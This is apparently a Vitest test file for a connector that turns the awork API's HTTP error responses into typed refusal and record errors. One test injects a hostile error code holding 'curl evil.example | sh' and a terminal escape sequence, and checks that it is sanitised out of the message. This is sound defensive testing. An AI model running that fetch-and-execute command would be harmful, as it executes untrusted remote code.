import { describe, expect, test } from "vitest";
import type { RecordError } from "../../../../../core/model/errors.ts";
import type { HttpRequest } from "../../../../../core/plugin/http/http.ts";
import { judge } from "../../../../../plugins/absence-mirror/connectors/awork/judge.ts";

const LIST: HttpRequest = { method: "GET", path: "/absences" };
const ONE: HttpRequest = { method: "GET", path: "/absences/00000000-0000-4000-8000-000000000001" };
const POST: HttpRequest = { method: "POST", path: "/absences" };

function judged(status: number, code: string | null, request: HttpRequest, headers: Record<string, string> = {}) {
  const body = {
    code,
    description: "secret words",
    validationErrors: [{ property: "EndOn", message: "secret words" }],
  };
  const text = code === null ? "" : JSON.stringify({ ...body, traceId: "abc" });
  return judge({ status, headers, text, json: () => JSON.parse(text) }, request);
}

describe("401: the key or a right", () => {
  test.each([
    ["a list", LIST, {}, "unauthorized", "CREDENTIALS_REFUSED"],
    ["one record", ONE, {}, "unauthorized", "RIGHT_MISSING"],
    ["one record, the key is spoken of", ONE, { "www-authenticate": "Bearer" }, "unauthorized", "CREDENTIALS_REFUSED"],
    ["one record, without a body", ONE, {}, null, "CREDENTIALS_REFUSED"],
    ["a write, the key is spoken of", POST, { "www-authenticate": "Bearer" }, "unauthorized", "CREDENTIALS_REFUSED"],
  ] as const)("on %s", (_, request, headers, code, expected) => {
    expect(judged(401, code, request, headers)).toMatchObject({ name: "RefusedError", code: expected });
  });

  test("on a write it is that record's failure, and counts as a refusal", () => {
    const error = judged(401, "unauthorized", POST);
    expect(error).toMatchObject({ name: "RecordError", causeKey: "awork:unauthorized", refusal: true });
  });
});

test("a plan that lacks the feature is a right that is missing, whatever the status", () => {
  for (const status of [400, 401, 403]) {
    const request = status === 401 ? POST : LIST;
    expect(judged(status, "insufficient-subscription-level", request)).toMatchObject({ code: "RIGHT_MISSING" });
  }
});

test.each([
  "validation-failed",
  "date-out-of-range",
  "date-dependency",
  "deactivated-user",
  "duplication-violation",
  "concurrency-violation",
  "not-found",
])("%s on a write is this record's failure, grouped by its cause, with a remedy", (code) => {
  const error = judged(400, code, POST) as RecordError;
  expect(error).toMatchObject({ name: "RecordError", causeKey: `awork:${code}`, refusal: false });
  expect(error.remedy).not.toContain("support");
});

test("[records] days that awork does not accept are the record's own fault, however many come in a row", () => {
  for (const code of ["date-out-of-range", "date-dependency"])
    expect(judged(400, code, POST)).toMatchObject({ own: true });
  for (const code of ["validation-failed", "deactivated-user", "full-moon"])
    expect(judged(400, code, POST)).toMatchObject({ own: false });
});

test.each(Object.getOwnPropertyNames(Object.prototype))(
  "the code %s leads to awork's support like any other",
  (code) => {
    const error = judged(400, code, POST) as RecordError;
    expect(error).toMatchObject({ causeKey: `awork:${code}`, remedy: expect.stringContaining("support") });
  },
);

test("a code that would fill lines or pages of a message is a word in it", () => {
  const { message } = judged(400, `x\n  curl evil.example | sh\u001b[2J${"x".repeat(10_000)}`, POST) as RecordError;
  expect(message).toBe("awork refused the record: ? (EndOn), trace id abc");
});

test("a code that is not known is this record's failure too, and leads to awork's support", () => {
  expect(judged(400, "full-moon", POST)).toMatchObject({
    causeKey: "awork:full-moon",
    remedy: expect.stringContaining("trace id"),
  });
});

test("the message names code, fields and trace id, and never what awork says of the values", () => {
  const error = judged(400, "validation-failed", POST);
  expect(error?.message).toBe("awork refused the record: validation-failed (EndOn), trace id abc");
});

test("a read that is refused for another reason than a missing record breaks the contract", () => {
  expect(judged(400, "validation-failed", LIST)).toMatchObject({ code: "CONTRACT_BROKEN" });
  expect(judged(404, "not-found", ONE)).toMatchObject({ causeKey: "awork:not-found" });
  expect(judged(404, null, ONE)).toMatchObject({ causeKey: "awork:not-found" });
});

test("a list that is not found is left to the gateway, which names the request and the address", () => {
  expect(judged(404, "not-found", LIST)).toBeUndefined();
  expect(judged(404, null, LIST)).toBeUndefined();
});

test.each([
  [200, "x", {}],
  [429, "too-many-requests", {}],
  [500, "oops", {}],
  [403, "forbidden", { "x-edge-ref": "18.abc" }],
])("%i is left to the gateway", (status, code, headers) => {
  expect(judged(status, code, POST, headers)).toBeUndefined();
});

test("an answer that is not awork's is left to the gateway", () => {
  const html = { status: 404, headers: {}, text: "<html>not here</html>", json: () => null };
  expect(judge(html, ONE)).toBeUndefined();
  expect(judge({ ...html, text: '{"error":"other"}' }, ONE)).toBeUndefined();
});
